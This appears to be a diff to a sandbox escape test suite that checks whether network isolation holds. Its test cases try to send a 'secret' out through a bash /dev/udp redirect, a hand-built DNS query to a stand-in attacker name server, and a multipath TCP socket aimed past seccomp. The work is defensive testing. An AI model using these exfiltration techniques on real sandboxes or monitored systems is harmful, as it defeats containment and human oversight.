@@ -14,8 +14,23 @@ def listen(scene, family=socket.AF_INET, address="127.0.0.1"):
     return listener.getsockname()[1], listener
 
 
+def receive(scene, address, port=0):
+    """The same for datagrams: the port, and what receives."""
+    receiver = scene.hold(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
+    receiver.bind((address, port))
+    return receiver.getsockname()[1], receiver
+
+
 def reached(listener):
     return bool(select.select([listener], [], [], 0)[0])
+
+
+def connect_multipath(scene, port):
+    scene.python(f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(('127.0.0.1', {port}))")
+
+
+# Asks a name server at (a, p) for `secret`: names that are asked for carry data out.
+QUESTION = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'\\0\\1\\1\\0\\0\\1' + bytes(6) + b'\\6secret\\0\\0\\1\\0\\1', (a, p))\n"
 
 
 @attack("network", "network namespace")
@@ -34,19 +49,15 @@ def loopback_of_ipv6(scene):
 
 @attack("network", "network namespace")
 def datagram_to_the_machine(scene):
-    receiver = scene.hold(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
-    receiver.bind(("127.0.0.1", 0))
-    scene.run(f"echo secret > /dev/udp/127.0.0.1/{receiver.getsockname()[1]}")
+    port, receiver = receive(scene, "127.0.0.1")
+    scene.run(f"echo secret > /dev/udp/127.0.0.1/{port}")
     return reached(receiver)
 
 
 @attack("network", "network namespace")
 def question_to_a_name_server(scene):
-    """Names that are asked for carry data out."""
-    receiver = scene.hold(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
-    receiver.bind(("127.0.0.53", 0))
-    scene.python(f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'\\0\\1\\1\\0\\0\\1' + bytes(6) + b'\\6secret\\0\\0\\1\\0\\1', "
-                 f"('127.0.0.53', {receiver.getsockname()[1]}))")
+    port, receiver = receive(scene, "127.0.0.53")
+    scene.python(f"import socket\na, p = '127.0.0.53', {port}\n{QUESTION}")
     return reached(receiver)
 
 
@@ -62,7 +73,7 @@ def abstract_socket(scene):
 @attack("network", "seccomp")
 def multipath(scene):
     port, listener = listen(scene)
-    scene.python(f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(('127.0.0.1', {port}))")
+    connect_multipath(scene, port)
     return reached(listener)
 
 
@@ -151,8 +162,7 @@ def denied_address_of_an_allowed_name(scene):
 @attack("network", "network namespace")
 def datagrams_beside_an_allowed_port(scene):
     port, listener = allowing(scene)
-    receiver = scene.hold(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
-    receiver.bind(("127.0.0.1", port))
+    _, receiver = receive(scene, "127.0.0.1", port)
     scene.python(REACH + f"reach('127.0.0.1', {port})\nfor a in {SPELLINGS}: reach(a, {port}, socket.SOCK_DGRAM)")
     accept(scene, listener)
     return reached(receiver)
@@ -160,13 +170,11 @@ def datagrams_beside_an_allowed_port(scene):
 
 @attack("network", "broker")
 def question_past_the_broker(scene):
-    """Names carry data out: to a name server of the attacker's, over what the policy allows for something else."""
+    """To a name server of the attacker's, over what the policy allows for something else."""
     port, listener = allowing(scene)
-    receiver = scene.hold(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
-    receiver.bind(("127.0.0.53", 0))
-    scene.python(REACH + f"reach('127.0.0.1', {port})\nq = b'\\0\\1\\1\\0\\0\\1' + bytes(6) + b'\\6secret\\0\\0\\1\\0\\1'\n"
-                 f"for p in (53, {receiver.getsockname()[1]}):\n  for a in ('127.0.0.1', '127.0.0.53'):\n"
-                 "    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, (a, p))\n    except OSError: pass")
+    elsewhere, receiver = receive(scene, "127.0.0.53")
+    scene.python(REACH + f"reach('127.0.0.1', {port})\nfor p in (53, {elsewhere}):\n  for a in ('127.0.0.1', '127.0.0.53'):\n"
+                 f"    try: {QUESTION}    except OSError: pass")
     accept(scene, listener)
     return reached(receiver)
 
@@ -174,7 +182,7 @@ def question_past_the_broker(scene):
 @attack("network", "seccomp")
 def other_protocols_beside_an_allowed_port(scene):
     port, listener = allowing(scene)
-    scene.python(f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(('127.0.0.1', {port}))")
+    connect_multipath(scene, port)
     return reached(listener)
 
 
